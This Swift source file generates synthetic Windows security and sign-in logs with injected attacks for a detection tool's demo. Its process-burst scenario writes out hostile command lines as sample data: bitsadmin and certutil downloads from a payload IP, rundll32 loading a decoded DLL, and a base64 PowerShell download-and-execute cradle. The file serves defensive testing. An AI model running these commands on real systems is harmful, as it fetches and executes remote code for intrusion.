import Foundation

/// A month of synthetic `SecurityEvent` and `SigninLogs` with injected attacks, for `vigil demo`:
/// a port of `../shared/bench/gen.py`'s shapes (Zipf-skewed users and hosts, a plausible event mix,
/// working-hours rhythm, home and NAT addresses, occasional travel) and its four scenarios, plus a
/// threat-intelligence indicator and a VIP watchlist so triage has something to find. Deterministic:
/// the same seed gives the same bytes, so the demo's incidents are the same on every machine.
public struct DemoDataset {
    public static let end: Int64 = 17_197_056_000_000_000  // 2024-06-30T00:00:00Z
    public static let days = 30
    public var securityEventsPerDay = 5_000
    public var signinsPerDay = 2_000
    public var users = 1_000
    public var hosts = 150
    var rng: SplitMix

    public init(seed: UInt64 = 42) { rng = SplitMix(seed) }

    public struct Output {
        public var securityEvent: String
        public var signinLogs: String
        public var threatIntelligence: String
        public var vipWatchlist: String
        /// What was injected, for the demo to point at.
        public var scenarios: [String]
    }

    static let eventMix: [(Int, Double, String)] = [
        (4624, 0.300, "An account was successfully logged on."), (4634, 0.170, "An account was logged off."),
        (4688, 0.200, "A new process has been created."), (4672, 0.070, "Special privileges assigned to new logon."),
        (4625, 0.030, "An account failed to log on."), (4648, 0.020, "A logon was attempted using explicit credentials."),
        (4768, 0.050, "A Kerberos authentication ticket (TGT) was requested."), (4769, 0.090, "A Kerberos service ticket was requested."),
        (4776, 0.060, "The computer attempted to validate the credentials for an account."), (4720, 0.0002, "A user account was created."),
        (4732, 0.0002, "A member was added to a security-enabled local group."), (4740, 0.0003, "A user account was locked out."),
        (4798, 0.0050, "A user's local group membership was enumerated."),
    ]
    static let processes: [(String, String, Double)] = [
        (#"C:\Windows\System32\svchost.exe"#, #"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS"#, 18),
        (#"C:\Program Files\Google\Chrome\Application\chrome.exe"#, #""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --renderer-client-id={n}"#, 14),
        (#"C:\Windows\explorer.exe"#, #"C:\Windows\Explorer.EXE"#, 5),
        (#"C:\Windows\System32\cmd.exe"#, #"C:\Windows\system32\cmd.exe /c "C:\Users\{u}\AppData\Local\Temp\setup_{n}.bat""#, 6),
        (#"C:\Windows\System32\conhost.exe"#, #"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"#, 12),
        (#"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#, #"powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\Scripts\inventory_{n}.ps1""#, 4),
        (#"C:\Windows\System32\RuntimeBroker.exe"#, #"C:\Windows\System32\RuntimeBroker.exe -Embedding"#, 6),
        (#"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#, #""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#, 4),
        (#"C:\Windows\System32\wbem\WmiPrvSE.exe"#, #"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"#, 3),
        (#"C:\Program Files\Git\cmd\git.exe"#, #""C:\Program Files\Git\cmd\git.exe" fetch --all --prune origin-{n}"#, 2),
        (#"C:\Windows\System32\net.exe"#, #"net use Z: \\fileserver{n}.corp.contoso.com\share"#, 1),
        (#"C:\Windows\System32\certutil.exe"#, #"certutil -verify C:\ProgramData\certs\client_{n}.cer"#, 0.3),
        (#"C:\Windows\System32\bitsadmin.exe"#, #"bitsadmin /list /allusers /verbose"#, 0.2),
    ]
    static let apps = ["Office 365 Exchange Online", "Microsoft Teams", "Office 365 SharePoint Online", "Azure Portal", "Microsoft Office", "Windows Sign In"]
    static let results: [(String, String, Double)] = [
        ("0", "", 0.905), ("50126", "Invalid username or password or Invalid on-premise username or password.", 0.030),
        ("50074", "Strong Authentication is required.", 0.020), ("50140", "This error occurred due to 'Keep me signed in' interrupt when the user was signing in.", 0.018),
        ("50076", "Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access.", 0.012),
        ("53003", "Access has been blocked by Conditional Access policies.", 0.004), ("500121", "Authentication failed during strong authentication request.", 0.006),
    ]
    static let countries: [(String, Double, [(String, Double, Double)])] = [
        ("US", 0.70, [("Seattle", 47.61, -122.33), ("New York", 40.71, -74.01), ("Austin", 30.27, -97.74), ("Chicago", 41.88, -87.63)]),
        ("GB", 0.07, [("London", 51.51, -0.13), ("Manchester", 53.48, -2.24)]),
        ("DE", 0.05, [("Berlin", 52.52, 13.40), ("Munich", 48.14, 11.58)]),
        ("IN", 0.06, [("Bengaluru", 12.97, 77.59), ("Hyderabad", 17.39, 78.49)]),
        ("FR", 0.03, [("Paris", 48.86, 2.35)]), ("JP", 0.03, [("Tokyo", 35.68, 139.69)]),
        ("CA", 0.06, [("Toronto", 43.65, -79.38), ("Vancouver", 49.28, -123.12)]),
    ]

    static let seHeader = ["TimeGenerated", "Computer", "EventID", "Activity", "Account", "AccountType", "TargetUserName", "SubjectUserName", "LogonType",
                           "IpAddress", "WorkstationName", "Status", "SubStatus", "Process", "NewProcessName", "ParentProcessName", "CommandLine"]
    static let siHeader = ["TimeGenerated", "UserPrincipalName", "UserDisplayName", "IPAddress", "ResultType", "ResultDescription", "AppDisplayName",
                           "Location", "LocationDetails", "ClientAppUsed", "RiskLevelDuringSignIn", "IsInteractive"]

    public mutating func generate() -> Output {
        let start = Self.end - Int64(Self.days) * 864_000_000_000
        let hostNames = (0..<hosts).map(Self.hostName)
        let hostIPs = (0..<hosts).map { _ in "10.\(rng.int(64)).\(rng.int(256)).\(1 + rng.int(254))" }
        var userNames = (0..<users).map { String(format: "user%05d", $0 + 1) }
        for i in stride(from: 0, to: 40, by: 1) { userNames[i * 7 % users] = String(format: "svc_%@%03d", ["sql", "web", "backup", "sched"][i % 4], i) }
        let pubFirst = [20, 23, 40, 52, 64, 73, 81, 98, 131, 142, 151, 163, 176, 203, 212]
        let pub = (0..<(users * 2)).map { _ in "\(pubFirst[rng.int(pubFirst.count)]).\(rng.int(256)).\(rng.int(256)).\(1 + rng.int(254))" }
        let userIPs = (0..<users).map { _ in [rng.int(pub.count), rng.int(pub.count), rng.int(pub.count)] }
        let userCountry = (0..<users).map { _ in rng.weighted(Self.countries.map(\.1)) }
        let nat = (10..<18).map { "198.51.100.\($0)" }
        let hostZipf = Self.zipf(hosts, 0.8), userZipf = Self.zipf(users, 1.05), signinZipf = Self.zipf(users, 0.9)
        let hourW: [Double] = [2, 1, 1, 1, 1, 2, 4, 7, 10, 11, 11, 10, 9, 10, 11, 11, 10, 8, 6, 5, 4, 3, 3, 2]

        var se: [[String]] = []
        se.reserveCapacity(securityEventsPerDay * Self.days)
        for _ in 0..<(securityEventsPerDay * Self.days) {
            let t = start + Int64(rng.int(Self.days)) * 864_000_000_000 + Int64(rng.weighted(hourW)) * 36_000_000_000 + Int64(rng.int(3_600_000)) * 10_000
            let (eid, _, text) = Self.eventMix[rng.weighted(Self.eventMix.map(\.1))]
            let host = rng.cumulative(hostZipf)
            let machine = rng.unit() < 0.25
            let name = machine ? String(hostNames[rng.int(hosts)].split(separator: ".")[0]) + "$" : userNames[rng.cumulative(userZipf)]
            let logon = [4624, 4625, 4634, 4648].contains(eid)
            let logonType = logon ? [2, 3, 4, 5, 7, 10, 11][rng.weighted([0.08, 0.62, 0.04, 0.16, 0.04, 0.03, 0.03])] : -1
            let r = rng.unit()
            var ip = r < 0.85 ? hostIPs[rng.int(hosts)] : r < 0.95 ? "172.\(16 + rng.int(16)).\(rng.int(256)).\(1 + rng.int(254))" : pub[rng.int(pub.count)]
            if !(logon || [4776, 4768, 4769].contains(eid)) { ip = "-" }
            if logonType == 2 { ip = "127.0.0.1" }
            var row = [Self.iso(t), hostNames[host], "\(eid)", "\(eid) - \(text)", "CONTOSO\\\(name)", machine ? "Machine" : "User",
                       logon || [4720, 4740, 4768, 4769, 4776].contains(eid) ? name : "-", logon && eid != 4648 ? "-" : name, "\(logonType)", ip,
                       logon ? String(hostNames[rng.int(hosts)].split(separator: ".")[0]) : "-", "", "", "", "", "", ""]
            if eid == 4625 { row[11] = "0xc000006d"; row[12] = ["0xc000006a", "0xc0000064", "0xc0000072", "0xc0000234"][rng.weighted([0.7, 0.18, 0.07, 0.05])] }
            if eid == 4688 {
                let (img, tmpl, _) = Self.processes[rng.weighted(Self.processes.map(\.2))]
                row[13] = String(img.split(separator: "\\").last ?? "")
                row[14] = img
                row[15] = [#"C:\Windows\explorer.exe"#, #"C:\Windows\System32\services.exe"#, #"C:\Windows\System32\svchost.exe"#][rng.int(3)]
                row[16] = tmpl.replacingOccurrences(of: "{u}", with: name).replacingOccurrences(of: "{n}", with: "\(1 + rng.int(99_999))")
            }
            se.append(row)
        }

        var si: [[String]] = []
        si.reserveCapacity(signinsPerDay * Self.days)
        let siHourW: [Double] = [1, 1, 1, 1, 2, 3, 6, 9, 11, 11, 10, 9, 9, 10, 10, 9, 8, 6, 4, 3, 2, 2, 1, 1]
        for _ in 0..<(signinsPerDay * Self.days) {
            let u = rng.cumulative(signinZipf)
            let t = start + Int64(rng.int(Self.days)) * 864_000_000_000 + Int64(rng.weighted(siHourW)) * 36_000_000_000 + Int64(rng.int(3_600_000)) * 10_000
            let ip = rng.unit() < 0.35 ? nat[rng.int(nat.count)] : pub[userIPs[u][rng.int(3)]]
            let res = Self.results[rng.weighted(Self.results.map(\.2))]
            var country = userCountry[u]
            if rng.unit() < 0.01 { country = rng.int(Self.countries.count) }
            let risk = ["none", "low", "medium", "high"][rng.weighted([0.955, 0.030, 0.012, 0.003])]
            si.append(signin(t, upn: userNames[u] + "@contoso.com", ip: ip, result: res.0, description: res.1, app: Self.apps[rng.int(Self.apps.count)],
                             country: country, city: rng.int(4), client: rng.unit() < 0.5 ? "Browser" : "Mobile Apps and Desktop clients", risk: risk,
                             interactive: rng.unit() < 0.7))
        }

        let day: Int64 = 864_000_000_000, minute: Int64 = 600_000_000
        var scenarios: [String] = []
        // 1. Brute force against a legacy service account from a known-bad address, then a success.
        let victim = "svc_backup_legacy", bfIP = "185.220.101.45", bfHost = hostNames[8]
        let bfStart = start + 21 * day + 2 * 60 * minute
        for i in 0...300 {
            let t = bfStart + Int64(i) * 4 * 10_000_000
            let ok = i == 300
            se.append([Self.iso(t), bfHost, ok ? "4624" : "4625", ok ? "4624 - An account was successfully logged on." : "4625 - An account failed to log on.",
                       "CONTOSO\\\(victim)", "User", victim, "-", "3", bfIP, "kali", ok ? "" : "0xc000006d", ok ? "" : "0xc000006a", "", "", "", ""])
        }
        scenarios.append("brute force: 300 failed logons of CONTOSO\\\(victim) on \(bfHost) from \(bfIP) (a threat-intelligence indicator), then a success, \(Self.iso(bfStart))")
        // 2. Password spray from three addresses against 250 accounts; one falls.
        let sprayIPs = ["45.137.22.11", "45.137.22.12", "45.137.22.13"]
        let spStart = start + 24 * day + 60 * minute
        var targets = Array(0..<users)
        for i in 0..<250 { targets.swapAt(i, i + rng.int(users - i)) }
        var lastSpray = spStart
        for (k, u) in targets.prefix(250).enumerated() {
            for a in 0..<(1 + rng.int(2)) {
                let t = spStart + Int64(rng.int(3_600_000)) * 10_000
                lastSpray = max(lastSpray, t)
                si.append(signin(t, upn: userNames[u] + "@contoso.com", ip: sprayIPs[(k + a) % 3], result: "50126", description: Self.results[1].1,
                                 app: "Office 365 Exchange Online", location: ("NL", "Amsterdam", 52.37, 4.90), client: "Other clients", risk: "medium", interactive: true))
            }
        }
        let fallen = userNames[targets[0]] + "@contoso.com"
        si.append(signin(lastSpray + 5 * minute, upn: fallen, ip: sprayIPs[0], result: "0", description: "", app: "Office 365 Exchange Online",
                         location: ("NL", "Amsterdam", 52.37, 4.90), client: "Other clients", risk: "medium", interactive: true))
        scenarios.append("password spray: 250 accounts from \(sprayIPs.joined(separator: ", ")), \(Self.iso(spStart)); \(fallen) signs in afterwards (on the VIP watchlist)")
        // 3. Impossible travel: Seattle, then Moscow 40 minutes later.
        let traveller = userNames[users - 3] + "@contoso.com"
        let t1 = start + 26 * day + 14 * 60 * minute
        si.append(signin(t1, upn: traveller, ip: "73.22.41.9", result: "0", description: "", app: "Office 365 Exchange Online",
                         location: ("US", "Seattle", 47.61, -122.33), client: "Browser", risk: "none", interactive: true))
        si.append(signin(t1 + 40 * minute, upn: traveller, ip: "95.173.136.70", result: "0", description: "", app: "Office 365 Exchange Online",
                         location: ("RU", "Moscow", 55.76, 37.62), client: "Browser", risk: "high", interactive: true))
        scenarios.append("impossible travel: \(traveller) from Seattle, then Moscow 40 minutes later, \(Self.iso(t1))")
        // 4. A burst of living-off-the-land processes on one workstation.
        let burstHost = hostNames[hosts - 7], acct = "user04242"
        let enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwADQALgAyADEALgAzADMALgA3AC8AYQAnACkA"
        let cmds: [(String, String)] = [
            (#"C:\Windows\System32\bitsadmin.exe"#, #"bitsadmin /transfer job1 /download /priority high http://104.21.33.7/a.exe C:\Users\Public\a.exe"#),
            (#"C:\Windows\System32\certutil.exe"#, #"certutil -urlcache -split -f http://104.21.33.7/b.txt C:\Users\Public\b.txt"#),
            (#"C:\Windows\System32\certutil.exe"#, #"certutil -decode C:\Users\Public\b.txt C:\Users\Public\b.dll"#),
            (#"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#, "powershell.exe -nop -w hidden -enc " + enc),
            (#"C:\Windows\System32\rundll32.exe"#, #"rundll32.exe C:\Users\Public\b.dll,DllRegisterServer"#),
            (#"C:\Windows\System32\whoami.exe"#, "whoami /all"),
            (#"C:\Windows\System32\net.exe"#, #"net group "Domain Admins" /domain"#),
        ]
        let bStart = start + 27 * day + 10 * 60 * minute
        for i in 0..<(cmds.count * 4) {
            let (img, cl) = cmds[i % cmds.count]
            se.append([Self.iso(bStart + Int64(i) * 20 * 10_000_000), burstHost, "4688", "4688 - A new process has been created.", "CONTOSO\\\(acct)", "User", "-", acct,
                       "-1", "-", "-", "", "", String(img.split(separator: "\\").last ?? ""), img, #"C:\Windows\System32\cmd.exe"#, cl])
        }
        scenarios.append("process burst: bitsadmin, certutil, encoded PowerShell, rundll32 on \(burstHost) as CONTOSO\\\(acct), \(Self.iso(bStart))")

        se.sort { $0[0] < $1[0] }
        si.sort { $0[0] < $1[0] }
        let ti = """
        {"TimeGenerated":"\(Self.iso(start + 10 * day))","IndicatorId":"demo-ti-1","NetworkIP":"\(bfIP)","Active":true,"ExpirationDateTime":"\(Self.iso(Self.end + 90 * day))","ThreatType":"Botnet","ConfidenceScore":80,"Description":"Tor exit node used for credential attacks","SourceSystem":"Demo feed"}
        {"TimeGenerated":"\(Self.iso(start + 10 * day))","IndicatorId":"demo-ti-2","NetworkIP":"104.21.33.7","Active":true,"ExpirationDateTime":"\(Self.iso(Self.end + 90 * day))","ThreatType":"MaliciousUrl","ConfidenceScore":70,"Description":"Payload host","SourceSystem":"Demo feed"}

        """
        let vip = "UserPrincipalName,Title\n\(fallen),Chief Financial Officer\n\(userNames[5])@contoso.com,Chief Executive Officer\n"
        return Output(securityEvent: Self.csv(Self.seHeader, se), signinLogs: Self.csv(Self.siHeader, si), threatIntelligence: ti, vipWatchlist: vip, scenarios: scenarios)
    }

    func signin(_ t: Int64, upn: String, ip: String, result: String, description: String, app: String, country: Int, city: Int, client: String,
                risk: String, interactive: Bool) -> [String] {
        let (cc, _, cities) = Self.countries[country]
        let c = cities[city % cities.count]
        return signin(t, upn: upn, ip: ip, result: result, description: description, app: app, location: (cc, c.0, c.1, c.2), client: client, risk: risk, interactive: interactive)
    }

    func signin(_ t: Int64, upn: String, ip: String, result: String, description: String, app: String, location: (String, String, Double, Double),
                client: String, risk: String, interactive: Bool) -> [String] {
        let details = #"{"city":"\#(location.1)","state":"","countryOrRegion":"\#(location.0)","geoCoordinates":{"latitude":\#(location.2),"longitude":\#(location.3)}}"#
        return [Self.iso(t), upn, "User " + upn.split(separator: "@")[0], ip, result, description, app, location.0, details, client, risk, interactive ? "true" : "false"]
    }

    static func hostName(_ i: Int) -> String {
        if i < 5 { return String(format: "DC%02d.corp.contoso.com", i + 1) }
        if i < 25 { return String(format: "SRV-%04d.corp.contoso.com", i - 4) }
        return String(format: "WS-%05d.corp.contoso.com", i - 24)
    }

    static func zipf(_ n: Int, _ s: Double) -> [Double] {
        var acc = 0.0
        let w = (1...n).map { 1 / pow(Double($0), s) }
        let total = w.reduce(0, +)
        return w.map { acc += $0 / total; return acc }
    }

    static func iso(_ t: Int64) -> String {
        let secs = t / 10_000_000, ms = (t / 10_000) % 1000
        let d = Date(timeIntervalSince1970: Double(secs))
        var c = Calendar(identifier: .gregorian)
        c.timeZone = TimeZone(identifier: "UTC")!
        let p = c.dateComponents([.year, .month, .day, .hour, .minute, .second], from: d)
        return String(format: "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ", p.year!, p.month!, p.day!, p.hour!, p.minute!, p.second!, Int(ms))
    }

    static func csv(_ header: [String], _ rows: [[String]]) -> String {
        var out = header.joined(separator: ",") + "\n"
        for r in rows { out += r.map(ResultFormatter.csvField).joined(separator: ",") + "\n" }
        return out
    }
}

/// SplitMix64: small, fast and the same everywhere.
struct SplitMix {
    var state: UInt64
    init(_ seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
    mutating func unit() -> Double { Double(next() >> 11) / Double(1 << 53) }
    mutating func int(_ n: Int) -> Int { Int(next() % UInt64(n)) }
    mutating func weighted(_ w: [Double]) -> Int {
        let total = w.reduce(0, +)
        var x = unit() * total
        for (i, v) in w.enumerated() { x -= v; if x < 0 { return i } }
        return w.count - 1
    }
    /// An index drawn from a cumulative distribution (ending at 1).
    mutating func cumulative(_ c: [Double]) -> Int {
        let x = unit()
        var lo = 0, hi = c.count - 1
        while lo < hi { let mid = (lo + hi) / 2; if c[mid] < x { lo = mid + 1 } else { hi = mid } }
        return lo
    }
}
